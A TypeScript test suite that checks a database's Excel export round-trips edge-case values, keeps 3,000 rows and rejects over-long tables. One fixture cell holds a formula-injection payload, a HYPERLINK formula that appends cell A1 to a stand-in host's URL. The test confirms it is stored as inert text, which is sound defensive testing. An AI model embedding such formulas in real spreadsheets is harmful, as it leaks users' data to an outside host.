import { read } from '@e965/xlsx';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { NodeDatabase } from '../../src/db/node-database.ts';
import { encodeTable } from '../../src/db/table-encoders.ts';
import { exportTable } from '../../src/db/table-export.ts';
import { expectedCells, hasOpenpyxl, pyCells, readWithOpenpyxl, readWithSheetJs } from '../helpers/xlsx-cells.ts';

let db: NodeDatabase;

const xlsx = (table: string) =>
  exportTable(db, table, 'xlsx', async (streams, decimals, f) => encodeTable(streams, decimals, f, () => { throw new Error('no parquet here'); }, table));

// Every kind of value a table hands Excel: ids whose leading zeros matter, text a spreadsheet
// would run as a formula, the empty string next to NULL, dates on both sides of Excel's 1900-03-01,
// millisecond timestamps, decimals within and past Excel's 15 digits, integers past 2^53, NaN.
const TRICKY = `CREATE TABLE tricky AS SELECT * FROM (VALUES
  ('00123', 1, 'plain', DATE '2024-02-29', TIMESTAMP '2024-01-01 10:00:00.123', 1234.5678::DECIMAL(18,4), 9007199254740993::BIGINT, 0.1::DOUBLE, true),
  ('0042', 2, '=HYPERLINK("http://x.test/?"&A1)', DATE '1969-12-31', TIMESTAMP '1960-06-30 23:59:59', 12345678901234.5678::DECIMAL(18,4), -42::BIGINT, -1.5e300::DOUBLE, false),
  ('7', 3, '', DATE '0001-01-01', TIMESTAMP '2000-01-01 00:00:00', 0::DECIMAL(18,4), 0::BIGINT, 'NaN'::DOUBLE, NULL),
  ('8', 4, NULL, NULL, NULL, NULL, NULL, NULL, NULL),
  ('9', 5, 'ünïcødé ✓, «quotes» and a line' || chr(10) || 'break', DATE '9999-12-31', TIMESTAMP '1900-03-01 00:00:00', -0.0001::DECIMAL(18,4), 9007199254740991::BIGINT, 1e-300::DOUBLE, true)
) v(customer_id, n, txt, day, moment, amount, big, x, flag)`;

beforeAll(async () => {
  db = await NodeDatabase.open();
  await db.exec(TRICKY);
  await db.exec(`CREATE TABLE many AS SELECT lpad(i::VARCHAR, 6, '0') AS id, i % 7 AS n, i / 8 AS share,
    DATE '2020-01-01' + (i % 1000)::INTEGER AS day, 'row ' || i AS label FROM range(0, 3000) t(i)`);
});
afterAll(() => db.close());

describe('.xlsx table export', () => {
  it('writes every value as Excel holds it, read back alike by SheetJS and by openpyxl', async () => {
    const bytes = await xlsx('tricky');
    expect([...bytes.slice(0, 2)]).toEqual([0x50, 0x4b]);
    const want = await expectedCells(db, 'SELECT * FROM tricky');
    const sheetJs = readWithSheetJs(bytes);
    expect(sheetJs.sheets).toEqual(['tricky']);
    expect(sheetJs.cells).toEqual(want);
    // The formula-like text is stored as text: no cell carries a formula.
    const raw = read(bytes, { dense: true, cellFormula: true }).Sheets.tricky['!data'] ?? [];
    expect(raw.flat().filter((c) => c?.f !== undefined)).toEqual([]);
    if (!hasOpenpyxl) return;
    const [file] = Object.values(readWithOpenpyxl(bytes, 'tricky.xlsx'));
    expect(file.sheets).toEqual(['tricky']);
    expect(pyCells(file)).toEqual(want);
  });

  it('keeps 3,000 rows over two Arrow batches, ids with their zeros', async () => {
    const bytes = await xlsx('many');
    const want = await expectedCells(db, 'SELECT * FROM many');
    const { cells } = readWithSheetJs(bytes);
    expect(cells.length).toBe(3_001);
    expect(cells).toEqual(want);
    expect(cells[1][0]).toEqual({ t: 's', v: '000000' });
    if (hasOpenpyxl) expect(pyCells(Object.values(readWithOpenpyxl(bytes, 'many.xlsx'))[0])).toEqual(want);
  });

  it('refuses a table longer than a sheet, naming the row count and what to do', async () => {
    await db.exec('CREATE TABLE too_long AS SELECT i FROM range(0, 1048576) t(i)');
    await expect(xlsx('too_long')).rejects.toThrow('1,048,576 rows do not fit in one Excel sheet, which holds 1,048,575 below its header; download CSV or Parquet instead');
  });
});
